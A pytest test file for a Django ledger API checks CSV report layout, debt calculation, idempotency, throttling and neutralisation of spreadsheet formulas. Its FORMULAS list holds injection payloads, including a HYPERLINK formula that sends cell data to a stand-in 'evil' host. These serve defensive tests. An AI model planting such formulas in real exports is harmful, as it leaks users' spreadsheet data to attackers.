"""What ledger reports promise: the documented layout, the debts as they stood, what is ordered."""

import threading

import pytest
from django.db import connections, transaction

from ledger_project.api import throttling
from ledger_project.core import spreadsheets
from ledger_project.core.setup import open_ledger
from reports.models import OutputFile
from reports.output_files import REPORT_TYPES, reproduce
from reports.output_files.formats import file_reports
from tests.support.assertions import unchanged
from tests.support.concurrency import in_sight
from tests.support.invoices import billed
from tests.support.output_files import download, listed
from tests.support.paths import FILES

pytestmark = pytest.mark.django_db
ORDER = f"{FILES}/ledger-report/order-report"


def order(api, report_date):
    """Order a report and return its data rows as lists of values."""
    ordered = api.post(ORDER, {"reportDate": report_date})
    assert ordered.status_code == 201, ordered.text
    text = download(api, ordered.data).content.decode("cp1252")
    return [line.split(";")[1:-1] for line in text.split("\r\n") if line.startswith("D;")]


def debts(api, report_date):
    return {row[0]: row[4] for row in order(api, report_date)}


def test_the_layout_is_the_documented_one_to_the_byte(api, ledger, buy, produce):
    open_ledger(501, name="Pärlan; \tBröder AB €", organisation_number="556677-8899")
    customer = buy("1234.50", number="852")["customer"].rsplit("/", 1)[-1]
    buy("0.05", number="853")
    produce()
    (item,) = listed(api, "ledger-report")
    created = item["created"].replace("T", " ").removesuffix("Z")
    expected = (
        "H1;Ledger report;ARFILEREPORT106;501;Pärlan   Bröder AB €;556677-8899;"
        f"{created};2026-06-08;\r\n"
        "H2;Invoice no.;Customer no.;Reg no.;Currency;Capital debt;Invoice date;Due date;\r\n"
        f"D;852;{customer};19101010-1010;SEK;1234,50;2026-06-07;2026-07-07;\r\n"
        f"D;853;{customer};19101010-1010;SEK;0,05;2026-06-07;2026-07-07;\r\n"
        "E;\r\n"
    )
    answer = download(api, item)
    assert answer.content == expected.encode("cp1252")
    assert answer.headers["Content-Type"] == item["mediaType"] == "text/csv; charset=windows-1252"


def test_the_name_is_the_documented_one(api, ledger, produce):
    produce()
    (item,) = listed(api, "ledger-report")
    stamp = "".join(filter(str.isdigit, item["created"]))
    assert item["fileName"] == f"ARFILEREPORT106_501_{stamp}_1.CSV"


def test_a_character_outside_the_encoding_becomes_a_question_mark(api, ledger, produce):
    open_ledger(501, name="Ζεύς AB")
    produce()
    (item,) = listed(api, "ledger-report")
    assert b";???? AB;" in download(api, item).content


def test_debts_are_as_of_the_end_of_any_day(api, authorize, buy, take_back, pay, at):
    first = buy("100.00", number="A")
    expiring = authorize(number="never-captured")
    at("2026-06-09")
    second = buy("50.00", number="B")
    pay(first, "40.00")
    at("2026-06-10")
    take_back(first, "10.00", "K-A")
    pay(second, "80.00")
    at("2026-06-11")
    take_back(first, "60.00", "K-A2")
    at("2026-08-01")
    assert api.get(expiring["@id"]).data["status"] == "Expired"

    assert debts(api, "2026-06-07") == {}
    assert debts(api, "2026-06-08") == {"A": "100,00"}
    assert debts(api, "2026-06-09") == {"A": "60,00", "B": "50,00"}
    assert debts(api, "2026-06-10") == {"A": "50,00"}
    assert debts(api, "2026-06-11") == debts(api, "2026-08-01") == {}


def test_further_captures_raise_the_debt_of_the_one_row(api, authorize, at):
    authorization = authorize(amount=100, number="A")
    api.post(f"{authorization['@id']}/captures", {"amount": 30})
    at("2026-06-09")
    api.post(f"{authorization['@id']}/captures", {"amount": 20})
    assert debts(api, "2026-06-08") == {"A": "30,00"}
    assert debts(api, "2026-06-09") == {"A": "50,00"}


def test_the_reg_no_of_a_protected_identity_is_not_in_the_ledger_report(api, buy):
    customer = buy("100.00")["customer"]
    assert api.patch(customer, {"protectedIdentity": True}).status_code == 200
    ((_, shown, reg_no, *_),) = order(api, "2026-06-08")
    assert (shown, reg_no) == (customer.rsplit("/", 1)[-1], "")


def test_the_daily_report_is_made_once_whether_or_not_one_was_ordered(api, buy, produce):
    buy("100.00")
    order(api, "2026-06-08")
    produce()
    produce()
    assert [item["sequence"] for item in listed(api, "ledger-report")] == [2, 1]


def test_an_order_makes_a_new_file_each_time(api, buy):
    buy("100.00")
    answers = [api.post(ORDER, {"reportDate": "2026-06-08"}) for _ in range(2)]
    assert [answer.status_code for answer in answers] == [201, 201]
    assert [answer.data["sequence"] for answer in answers] == [1, 2]
    for answer in answers:
        assert answer.headers["Location"] == answer.data["@id"]
        found = api.get(answer.data["@id"])
        assert (found.status_code, found.headers["ETag"]) == (200, answer.headers["ETag"])


def test_an_order_with_a_key_is_answered_once(api, ledger):
    sent = {"reportDate": "2026-06-08"}
    first = api.post(ORDER, sent, Idempotency_Key="k-1")
    second = api.post(ORDER, sent, Idempotency_Key="k-1")
    assert second.data == first.data
    assert second.headers["Idempotency-Replayed"] == "true"
    assert OutputFile.objects.count() == 1


@pytest.mark.parametrize(
    ("body", "member"),
    [
        ({"reportDate": "2026-06-09"}, "reportDate"),
        ({"reportDate": "1899-12-31"}, "reportDate"),
        ({"reportDate": "2026-6-8"}, "reportDate"),
        ({"reportDate": None}, "reportDate"),
        ({}, "reportDate"),
        ({"reportDate": "2026-06-08", "format": "pdf"}, "format"),
        ({"reportDate": "2026-06-08", "fromDate": "2026-06-01"}, "fromDate"),
    ],
)
def test_an_order_that_cannot_be_meant_is_refused_and_makes_nothing(api, ledger, body, member):
    answer = api.post(ORDER, body)
    assert (answer.status_code, answer.slug) == (400, "validation")
    assert member in answer.data["Problems"][0]
    assert not OutputFile.objects.exists()


def test_a_report_of_a_period_says_which_and_refuses_one_that_ends_before_it_begins(
    api, ledger, at
):
    at("2026-06-20")
    for number, name, time in (
        ("125", "Credit report", " 00:00:00"),
        ("127", "Credit report with book account", ""),
    ):
        path = f"{FILES}/ar-filereport{number}/order-report"
        for asked, first in (({}, "2026-06-01"), ({"fromDate": "2026-05-11"}, "2026-05-11")):
            made = api.post(path, {"reportDate": "2026-06-10", **asked})
            created = made.data["created"].replace("T", " ").removesuffix("Z")
            heading = download(api, made.data).content.decode("cp1252").split("\r\n")[0]
            assert heading == (
                f"H1;{name};ARFILEREPORT{number};501;Testledger AB;;{created};2026-06-10;"
                f"{first}{time};2026-06-10{time};"
            )
        refused = api.post(path, {"reportDate": "2026-06-10", "fromDate": "2026-06-11"})
        assert (refused.status_code, refused.slug) == (400, "validation")
        assert "fromDate" in refused.data["Problems"][0]
        assert len(listed(api, f"ar-filereport{number}")) == 2


def test_a_ledger_without_scheduled_reports_gets_none_and_may_order_any(api, ledger, produce):
    open_ledger(501, scheduled_reports=[])
    produce()
    for type_ in ("ledger-report", "ar-filereport103", "ar-filereport110"):
        assert listed(api, type_) == []
        (order,) = api.get(f"{FILES}/{type_}").data["operations"]
        made = api.post(order["href"], {"reportDate": "2026-06-08"})
        assert made.status_code == 201
        assert listed(api, type_) == [made.data]
        assert made.data["sequence"] == 1


def test_a_full_disk_in_the_middle_leaves_nothing_and_the_connection_usable(
    api, ledger, buy, produce, monkeypatch
):
    def full(content, lines):
        if lines[0].startswith(b"D;"):
            raise OSError("No space left on device")

    for _ in range(3):
        buy("100.00")
    monkeypatch.setattr(file_reports, "LINES_AT_ONCE", 1)
    monkeypatch.setattr(file_reports, "_write_lines", full)
    with pytest.raises(OSError, match="No space"):
        produce()
    assert not OutputFile.objects.filter(type="ledger-report").exists()


FORMULAS = ('=HYPERLINK("http://evil/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)")


@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("report", ["103", "110", "125"])
def test_no_name_is_a_formula_and_every_amount_stays_one(
    api, ledger, buy, pay, take_back, report, name
):
    open_ledger(501, name=name)
    one = buy("100.00", number="852")
    assert api.patch(one["customer"], {"name": name}).status_code == 200
    pay(one, "150.00")
    take_back(one, "10.00", "K-1")
    ordered = api.post(f"{FILES}/{REPORT_TYPES[report]}/order-report", {"reportDate": "2026-06-08"})
    assert ordered.status_code == 201, ordered.text
    text = download(api, ordered.data).content.decode("cp1252")
    values = [value for line in text.split("\r\n") for value in line.split(";")]
    assert f"'{name}" in values
    assert [value for value in values if value.startswith(("=", "+", "@"))] == []
    assert all(value.replace(",", "").lstrip("-").isdigit() for value in values if value[:1] == "-")


def test_a_negative_amount_is_no_formula():
    row = b"D;-12,50;-7;-1+1;=A1;-;+46;a=b;-12,50x;\r\n"
    expected = b"D;-12,50;-7;'-1+1;'=A1;'-;'+46;a=b;'-12,50x;\r\n"
    assert spreadsheets.lines(row) == expected


def test_a_formula_is_one_after_blanks_and_at_the_beginning_of_a_line_too():
    row = b"=A1; =A1;\t1;\xa0+1;a =1;\r\n@A1;1;\r\n"
    assert spreadsheets.lines(row) == b"'=A1;' =A1;'\t1;'\xa0+1;a =1;\r\n'@A1;1;\r\n"


def test_a_text_that_a_spreadsheet_would_compute_has_an_apostrophe():
    for name in (*FORMULAS, " =A1", "\u00a0=A1", "\uff1dA1", "\n=A1", "\t1"):
        assert spreadsheets.text(name) == f"'{name}"
    assert [spreadsheets.text(one) for one in ("A=1", "", "1-2")] == ["A=1", "", "1-2"]


def test_only_so_many_reports_are_ordered_in_an_hour(api, ledger, monkeypatch):
    monkeypatch.setattr(throttling, "REPORTS", throttling.Limit("reports", 2, 3600, "orders"))
    asked = {"reportDate": "2026-06-08"}
    assert [api.post(ORDER, asked).status_code for _ in range(2)] == [201, 201]
    with unchanged():
        refused = api.post(ORDER, asked)
    assert (refused.status_code, refused.slug) == (429, "too-many-requests")
    assert 1 <= int(refused.headers["Retry-After"]) <= 3600


@pytest.mark.django_db(transaction=True)
def test_a_report_of_the_running_day_waits_for_what_is_being_written(api, ledger):
    written, commit = threading.Event(), threading.Event()

    def bill_slowly():
        try:
            with transaction.atomic():
                billed(api)
                written.set()
                assert commit.wait(20)
        finally:
            connections.close_all()

    def order_report():
        try:
            order(api, "2026-06-08")
        finally:
            connections.close_all()

    slow, ordering = (threading.Thread(target=in_sight(one)) for one in (bill_slowly, order_report))
    slow.start()
    assert written.wait(20)
    ordering.start()
    assert not commit.wait(1)
    commit.set()
    slow.join()
    ordering.join()
    file = OutputFile.objects.get(variant="106")
    assert file.sellers == ["654"]
    assert reproduce(file) == file.sha256
